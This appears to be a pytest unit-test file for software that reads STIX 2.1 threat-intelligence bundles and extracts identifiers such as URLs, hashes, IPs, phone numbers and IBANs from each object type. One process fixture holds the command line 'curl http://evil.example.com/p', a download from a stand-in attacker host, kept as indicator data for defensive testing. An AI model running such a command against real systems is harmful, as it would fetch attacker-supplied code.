# SPDX-License-Identifier: Apache-2.0
"""What each kind of STIX object says."""

import json

import pytest

from tests.unit.formats.builders import bundle, only, posted, read, said, stix, stix_id

SHA256 = "ab" * 32


def observable(type_: str, **props: object) -> dict[str, object]:
    return {"type": type_, "spec_version": "2.1", "id": stix_id(type_), **props}


OBSERVABLES = [
    (
        observable("artifact", mime_type="image/png", url="http://files.example.com/a", hashes={"SHA-256": SHA256}),
        {("url", "http://files.example.com/a"), ("sha256", SHA256)},
    ),
    (observable("autonomous-system", number=64500, name="Example AS"), set()),
    (observable("directory", path="C:\\Windows"), set()),
    (
        observable("domain-name", value="Bank.Example.com", resolves_to_refs=[stix_id("ipv4-addr")]),
        {("domain", "bank.example.com")},
    ),
    (observable("email-addr", value="Someone@example.com", display_name="Someone"), {("email", "someone@example.com")}),
    (
        observable(
            "email-message",
            is_multipart=False,
            subject="Your parcel",
            from_ref=stix_id("email-addr"),
            body="pay at http://pay.example.com/x",
            received_lines=["from 198.51.100.7 by mx"],
        ),
        {("url", "http://pay.example.com/x"), ("ipv4", "198.51.100.7")},
    ),
    (
        observable("file", name="setup.py", size=3, hashes={"MD5": "cd" * 16, "SHA-1": "ef" * 20}),
        {("md5", "cd" * 16), ("sha1", "ef" * 20)},
    ),
    (observable("ipv4-addr", value="198.51.100.3"), {("ipv4", "198.51.100.3")}),
    (observable("ipv6-addr", value="2001:DB8::0001"), {("ipv6", "2001:db8::1")}),
    (observable("mac-addr", value="d2:fb:49:24:37:18"), set()),
    (observable("mutex", name="__CLEANSWEEP__"), set()),
    (observable("network-traffic", protocols=["tcp"], src_ref=stix_id("ipv4-addr"), dst_port=443), set()),
    (
        observable("process", pid=1221, command_line="curl http://evil.example.com/p"),
        {("url", "http://evil.example.com/p")},
    ),
    (observable("software", name="Word", vendor="Example"), set()),
    (
        observable("url", value="https://example.com/research/index.html"),
        {("url", "https://example.com/research/index.html")},
    ),
    (observable("user-account", user_id="1001", account_login="jdoe", account_type="unix"), set()),
    (
        observable(
            "windows-registry-key",
            key="hkey_local_machine\\system\\bar",
            values=[{"name": "Foo", "data": "qwerty", "data_type": "REG_SZ"}],
        ),
        set(),
    ),
    (
        observable("x509-certificate", issuer="C=XX, O=Example", serial_number="36:f7:d4", hashes={"SHA-256": SHA256}),
        {("sha256", SHA256)},
    ),
]


@pytest.mark.parametrize(("obj", "identifiers"), OBSERVABLES, ids=[str(obj["type"]) for obj, _ in OBSERVABLES])
def test_each_cyber_observable_gives_its_values_and_identifiers(
    obj: dict[str, object], identifiers: set[tuple[str, str]]
) -> None:
    derived = only(read(bundle(obj))).derived
    assert identifiers <= posted(derived)
    assert not posted(derived) - identifiers - {each for each in posted(derived) if each[0] == "domain"}
    values = {statement.value for statement in derived.statements}
    assert set(leaves({name: part for name, part in obj.items() if name not in ("id", "spec_version")})) <= values
    assert derived.entities[0].key == obj["id"]
    assert derived.entities[0].caption


def leaves(value: object) -> list[str]:
    if isinstance(value, dict):
        return [leaf for part in value.values() for leaf in leaves(part)]
    if isinstance(value, list):
        return [leaf for part in value for leaf in leaves(part)]
    return [json.dumps(value) if isinstance(value, bool | int | float) else str(value)]


def test_all_eighteen_cyber_observables_are_tried() -> None:
    assert len({str(obj["type"]) for obj, _ in OBSERVABLES}) == 18


@pytest.mark.parametrize(
    ("props", "identifier"),
    [
        ({"account_type": "telegram", "account_login": "Example_Shop"}, ("telegram", "example_shop")),
        ({"account_type": "whatsapp", "user_id": "+65 6123 4567"}, ("phone", "+6561234567")),
        ({"account_type": "WeChat", "account_login": "wxid_example1"}, ("wechat", "wxid_example1")),
        ({"account_type": "facebook", "account_login": "someone@example.com"}, ("email", "someone@example.com")),
    ],
)
def test_an_account_of_a_service_is_posted_under_its_scheme(
    props: dict[str, object], identifier: tuple[str, str]
) -> None:
    assert identifier in posted(only(read(bundle(observable("user-account", **props)))).derived)


def test_a_relationship_is_a_link_with_its_ends() -> None:
    obj = stix("relationship", relationship_type="uses", source_ref=stix_id("campaign"), target_ref=stix_id("malware"))
    derived = only(read(bundle(obj))).derived
    assert [entity.schema for entity in derived.entities] == ["UnknownLink"]
    assert derived.entities[0].caption == "campaign uses malware"
    assert said(derived, "relationshipType") == ["uses"]
    ends = [(each.prop, each.value, each.kind) for each in derived.statements if each.kind == "entity"]
    assert ends == [("source", stix_id("campaign"), "entity"), ("target", stix_id("malware"), "entity")]


def test_a_relationship_holds_from_start_to_stop() -> None:
    times = {"start_time": "2025-01-01T00:00:00Z", "stop_time": "2025-02-01T00:00:00.5Z"}
    obj = stix(
        "relationship", relationship_type="uses", source_ref=stix_id("tool"), target_ref=stix_id("tool"), **times
    )
    for statement in only(read(bundle(obj))).derived.statements:
        assert (statement.valid_from, statement.valid_until) == ("2025-01-01T00:00:00Z", "2025-02-01T00:00:00.5Z")


def test_a_sighting_says_what_was_seen_where_and_how_often() -> None:
    obj = stix(
        "sighting",
        count=7,
        first_seen="2026-01-01T00:00:00Z",
        last_seen="2026-01-02T00:00:00Z",
        summary=True,
        sighting_of_ref=stix_id("indicator"),
        where_sighted_refs=[stix_id("identity"), stix_id("identity", 2)],
        observed_data_refs=[stix_id("observed-data")],
    )
    derived = only(read(bundle(obj))).derived
    assert derived.entities[0].schema == "Sighting"
    assert said(derived, "count") == ["7"]
    assert said(derived, "first_seen") == ["2026-01-01T00:00:00Z"]
    assert said(derived, "last_seen") == ["2026-01-02T00:00:00Z"]
    assert said(derived, "sighting_of_ref") == [stix_id("indicator")]
    assert said(derived, "where_sighted_refs") == [stix_id("identity"), stix_id("identity", 2)]
    assert {each.kind for each in derived.statements if each.prop.endswith(("_ref", "_refs"))} == {"entity"}


def test_an_indicator_posts_what_its_pattern_looks_for() -> None:
    excluded = "domain-name:value NOT = 'good.example.com'"
    pattern = f"[ipv4-addr:value = '198.51.100.3'] OR [file:hashes.'SHA-256' = '{SHA256}' AND {excluded}]"
    obj = stix(
        "indicator",
        name="x",
        pattern_type="stix",
        pattern=pattern,
        valid_from="2026-01-01T00:00:00Z",
        valid_until="2027-01-01T00:00:00Z",
    )
    derived = only(read(bundle(obj))).derived
    assert posted(derived) == {("ipv4", "198.51.100.3"), ("sha256", SHA256)}
    assert {posting.prop for posting in derived.postings} == {"pattern"}
    assert said(derived, "pattern") == [pattern]
    assert all(each.valid_from == "2026-01-01T00:00:00Z" for each in derived.statements)
    assert all(each.valid_until == "2027-01-01T00:00:00Z" for each in derived.statements)


def test_an_address_range_in_a_pattern_is_kept_as_text_and_noted() -> None:
    derived = only(
        read(bundle(stix("indicator", pattern_type="stix", pattern="[ipv4-addr:value = '198.51.100.0/24']")))
    ).derived
    assert posted(derived) == set()
    assert derived.notes[0].startswith("pattern: ")


def test_a_yara_rule_is_kept_as_text_and_searched() -> None:
    rule = 'rule r { strings: $a = "http://evil.example.com/x" condition: $a }'
    derived = only(read(bundle(stix("indicator", pattern_type="yara", pattern=rule)))).derived
    assert said(derived, "pattern") == [rule]
    assert ("url", "http://evil.example.com/x") in posted(derived)


def test_a_description_is_searched_for_identifiers() -> None:
    derived = only(
        read(bundle(stix("campaign", name="x", description="pay to hxxps://pay[.]example[.]com/now")))
    ).derived
    mention = next(each for each in derived.postings if each.identifier.scheme == "url")
    assert (mention.identifier.value, mention.prop) == ("https://pay.example.com/now", "description")
    assert mention.original == "hxxps://pay[.]example[.]com/now"


def test_a_cited_report_is_no_identifier_of_the_object() -> None:
    references = [{"source_name": "Report", "url": "https://reports.example.com/1", "external_id": "T0001"}]
    derived = only(read(bundle(stix("campaign", name="x", external_references=references)))).derived
    assert posted(derived) == set()
    assert said(derived, "sourceUrl") == ["https://reports.example.com/1"]
    assert said(derived, "external_references.external_id") == ["T0001"]


@pytest.mark.parametrize(
    ("class_", "schema"),
    [
        ("individual", "Person"),
        ("organization", "Organization"),
        ("group", "Organization"),
        ("unknown", "LegalEntity"),
        (None, "LegalEntity"),
        (["x"], "LegalEntity"),
    ],
)
def test_an_identity_is_a_person_or_an_organization_by_its_class(class_: object, schema: str) -> None:
    obj = stix("identity", name="Example", **({} if class_ is None else {"identity_class": class_}))
    assert only(read(bundle(obj))).derived.entities[0].schema == schema


def test_a_location_is_an_address() -> None:
    obj = stix(
        "location",
        country="th",
        city="Example City",
        street_address="1 Road",
        postal_code="10110",
        latitude=13.75,
        longitude=100.5,
    )
    derived = only(read(bundle(obj))).derived
    assert derived.entities[0].schema == "Address"
    for prop, value in (("street", "1 Road"), ("postalCode", "10110"), ("latitude", "13.75"), ("country", "th")):
        assert said(derived, prop) == [value]


def test_a_custom_type_is_kept_with_all_its_values() -> None:
    obj = stix(
        "x-example-case", name="Case 7", x_nested={"a": [{"b": "deep"}, {"b": 2}], "c": True}, x_account="+6561234567"
    )
    derived = only(read(bundle(obj))).derived
    assert (derived.entities[0].schema, derived.entities[0].caption) == ("Thing", "Case 7")
    assert said(derived, "type") == ["x-example-case"]
    assert said(derived, "x_nested.a.b") == ["deep", "2"]
    assert said(derived, "x_nested.c") == ["true"]
    assert ("phone", "+6561234567") in posted(derived)


def test_extensions_are_kept_and_searched() -> None:
    id_ = "extension-definition--00000000-0000-4000-8000-000000000007"
    obj = stix(
        "incident", name="x", extensions={id_: {"extension_type": "property-extension", "site": "evil.example.com"}}
    )
    derived = only(read(bundle(obj))).derived
    assert said(derived, f"extensions.{id_}.site") == ["evil.example.com"]
    assert ("domain", "evil.example.com") in posted(derived)


def test_a_misp_attribute_is_posted_by_its_type() -> None:
    obj = stix(
        "x-misp-attribute",
        x_misp_type="iban",
        x_misp_value="GB82 WEST 1234 5698 7654 32",
        x_misp_category="Financial fraud",
    )
    assert ("iban", "GB82WEST12345698765432") in posted(only(read(bundle(obj))).derived)


def test_a_misp_object_posts_its_attributes() -> None:
    attributes = [
        {"type": "iban", "object_relation": "iban", "value": "GB82WEST12345698765432"},
        {"type": "text", "value": "x"},
        3,
    ]
    obj = stix("x-misp-object", x_misp_name="bank-account", x_misp_attributes=attributes)
    assert ("iban", "GB82WEST12345698765432") in posted(only(read(bundle(obj))).derived)


def test_versions_and_revocation_are_statements() -> None:
    derived = only(read(bundle(stix("tool", name="x", revoked=True)))).derived
    assert said(derived, "modified") == ["2026-01-02T00:00:00.000Z"]
    assert said(derived, "revoked") == ["true"]
    assert next(each.kind for each in derived.statements if each.prop == "modified") == "date"


@pytest.mark.parametrize(
    ("confidence", "expected"), [(0, 0), (85, 85), (100, 100), (101, -1), (-1, -1), ("high", -1), (True, -1), (5.5, -1)]
)
def test_a_confidence_goes_onto_each_statement(confidence: object, expected: int) -> None:
    derived = only(read(bundle(stix("tool", name="x", confidence=confidence)))).derived
    assert {each.confidence for each in derived.statements} == {expected}
    assert bool(derived.notes) == (expected < 0)


def test_a_language_content_says_each_text_in_its_language() -> None:
    contents = {"th": {"name": "ตัวอย่าง"}, "vi": {"name": "Ví dụ", "description": "mô tả"}}
    derived = only(read(bundle(stix("language-content", object_ref=stix_id("tool"), contents=contents)))).derived
    assert [(each.lang, each.value) for each in derived.statements if each.prop == "contents.name"] == [
        ("th", "ตัวอย่าง"),
        ("vi", "Ví dụ"),
    ]


def test_the_language_of_an_object_goes_onto_its_texts() -> None:
    derived = only(read(bundle(stix("tool", name="Ví dụ", lang="vi")))).derived
    assert [each.lang for each in derived.statements if each.prop == "name"] == ["vi"]


def test_a_report_points_to_what_it_holds() -> None:
    refs = [stix_id("tool"), stix_id("malware")]
    for type_ in ("report", "grouping", "note", "opinion"):
        assert said(only(read(bundle(stix(type_, name="x", object_refs=refs)))).derived, "object_refs") == refs


def test_empty_values_say_nothing() -> None:
    derived = only(read(bundle(stix("tool", name="x", description="", aliases=[], x_a={}, x_b=None)))).derived
    assert {each.prop for each in derived.statements} == {"type", "created", "modified", "name"}


def test_nul_characters_are_replaced_and_noted() -> None:
    derived = only(read(bundle(stix("tool", name="a\0b", **{"x\0y": "1"})))).derived
    assert said(derived, "name") == ["a\ufffdb"]
    assert said(derived, "x\ufffdy") == ["1"]
    assert "NUL" in derived.notes[0]


def test_an_object_without_a_version_is_used_with_a_note() -> None:
    obj = {name: value for name, value in stix("tool", name="x").items() if name != "spec_version"}
    each = only(read(bundle(obj)))
    assert each.media_type == "application/stix+json;version=2.1"
    assert each.derived.notes == ("It names no STIX version; it was read as 2.1.",)


def test_an_unusual_id_is_used_with_a_note() -> None:
    container = read(bundle(stix("tool", name="x") | {"id": "my own id"}))
    assert only(container).source_id == "my own id"
    assert "not written as STIX asks" in only(container).derived.notes[0]
